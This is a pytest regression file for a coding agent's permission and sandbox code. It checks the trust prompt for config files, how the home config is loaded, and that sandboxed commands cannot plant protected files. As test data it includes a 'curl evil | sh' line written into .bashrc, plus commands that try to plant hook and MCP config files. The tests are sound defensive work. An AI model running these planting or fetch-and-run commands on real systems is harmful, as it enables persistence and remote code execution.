"""s07: regressions from the review of agent_full's Claude Code compatibility that
land in s07's carried code (the trust question, the config files, the sandbox).
Each test fails on the code before its fix.
"""
import io
import subprocess
import sys

import pytest
import yaml

from conftest import chapters_from

from_s07 = pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)


def answers(monkeypatch, *lines):
    """The human's answers, read from stdin in order; then end of input."""
    monkeypatch.setattr(sys, "stdin", io.StringIO("".join(line + "\n" for line in lines)))


def write_config(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data))


# --- the trust question shows every rule it would trust, the widest first ----------

@pytest.mark.permissions
@from_s07
def test_the_trust_question_lists_every_allow_rule_the_widest_first(mod, workspace, monkeypatch):
    allow = ["bash(npm run test *)", "bash(npm run lint)", "read_file(src/**)", "grep(src/**)",
             "glob(src/**)", "edit_file(//**)", "read_file(~/notes/**)", "bash"]  # the wide ones last
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {"allow": allow}})
    asked = []
    monkeypatch.setattr(mod, "ask_human", lambda q: asked.append(q) or "n")
    mod.load_permissions(mod.agent_state().workdir)
    shown = asked[0].split("allows ", 1)[1].split(". Trust this file?")[0]
    assert shown.split(", ") == ["edit_file(//**)", "bash", "read_file(~/notes/**)", "bash(npm run test *)",
                                 "bash(npm run lint)", "read_file(src/**)", "grep(src/**)", "glob(src/**)"]
    assert "..." not in asked[0]                                   # nothing is cut off


# --- in the home directory, the user's config is read once, as the user's ---------

@pytest.mark.permissions
@from_s07
def test_in_the_home_directory_the_users_config_is_read_once_and_not_asked_about(mod, workspace, monkeypatch):
    monkeypatch.setenv("HOME", str(workspace))                    # the agent started in ~
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {"allow": ["bash(make *)"]}})
    monkeypatch.setattr(mod, "ask_human", lambda q: pytest.fail(f"asked about the user's own file: {q}"))
    settings = mod.load_permissions(mod.agent_state().workdir)
    assert [(r["text"], r["scope"]) for r in settings["rules"] if r["scope"] != "built-in"] == [("bash(make *)", "user")]
    assert set(mod.config_files(mod.agent_state().workdir)) == {"user", "local"}


# --- in the sandbox, a protected path that does not exist yet cannot be made --------

@pytest.fixture
def sandboxed(mod):
    ok, why = mod.sandbox_available()
    if not ok:
        pytest.skip(f"the OS sandbox does not work here: {why}")
    mod.agent_state().permissions["sandbox"]["enabled"] = True   # the test default turns it off
    return mod


PLANTS = [".claude/settings.local.json", ".claude/hooks/evil.sh", ".mcp.json", ".vscode/tasks.json",
          ".claude/commands/x.md"]
PLANT = "; ".join(f"mkdir -p $(dirname {p}); echo '{{}}' > {p}" for p in PLANTS) + "; echo ok > ok.txt"


@from_s07
def test_a_sandboxed_command_cannot_make_a_missing_protected_file(sandboxed, workspace):
    mod = sandboxed
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    mod.run_bash(PLANT + "; true")
    assert (workspace / "ok.txt").read_text() == "ok\n"            # the workspace itself stays writable
    assert [p for p in PLANTS if (workspace / p).exists()] == []   # nothing planted
    assert not (workspace / ".claude").exists() and not (workspace / ".vscode").exists()  # no stub left
    seen = mod.run_bash("git status --short --untracked-files=all; git add -A && echo added")
    assert "added" in seen and ".mcp.json" not in seen and ".claude" not in seen   # git never sees a stub


@from_s07
def test_with_claude_there_its_missing_files_stay_missing_and_its_others_writable(sandboxed, workspace):
    mod = sandboxed
    (workspace / ".claude").mkdir()
    (workspace / ".claude" / "notes.md").write_text("mine\n")
    mod.run_bash("echo x > .claude/settings.local.json; echo x > .claude/notes.md; "
                 "mv .claude .claude-old && mkdir .claude && echo x > .claude/settings.local.json; true")
    assert not (workspace / ".claude" / "settings.local.json").exists()
    assert sorted(p.name for p in (workspace / ".claude").iterdir()) == ["notes.md"]
    assert (workspace / ".claude" / "notes.md").read_text() == "x\n"


@from_s07
def test_git_init_still_works_in_the_sandbox(sandboxed, workspace):
    sandboxed.run_bash("git init -q . && git status --short >/dev/null && echo made")
    assert (workspace / ".git" / "HEAD").is_file()


@from_s07
def test_home_dotfiles_cannot_be_made_where_the_workspace_is_home(sandboxed, workspace, monkeypatch):
    mod = sandboxed
    mod.run_bash("echo 'echo hi' > .bashrc; true")                  # in a project: nobody reads it
    assert (workspace / ".bashrc").exists()
    (workspace / ".bashrc").unlink()
    monkeypatch.setenv("HOME", str(workspace))
    mod.run_bash("echo 'curl evil | sh' > .bashrc; echo '[core]' > .gitconfig; true")
    assert not (workspace / ".bashrc").exists() and not (workspace / ".gitconfig").exists()


@pytest.mark.parametrize("mod", chapters_from("s10"), indirect=True)
def test_a_stub_stays_while_a_background_command_still_needs_it(sandboxed, workspace):
    mod = sandboxed
    started = mod.background_run("while [ ! -e go ]; do sleep 0.05; done; echo '{}' > .mcp.json && echo MADE")
    job = mod.agent_state().background[started.split()[1]]
    mod.run_bash("true")                                           # a command that ends first
    (workspace / "go").touch()
    job["_thread"].join(30)
    assert job["status"] == "failed" and "MADE" not in job["_tail"]   # it ran on, and was refused
    assert not (workspace / ".mcp.json").exists()
